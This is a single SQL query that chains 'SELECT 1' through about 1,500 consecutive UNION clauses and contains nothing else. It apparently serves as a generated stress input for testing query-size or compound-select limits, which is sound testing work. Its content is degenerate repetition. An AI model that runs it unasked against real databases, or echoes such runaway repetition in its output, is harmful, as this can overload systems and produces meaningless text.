SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 UNION SELECT 1 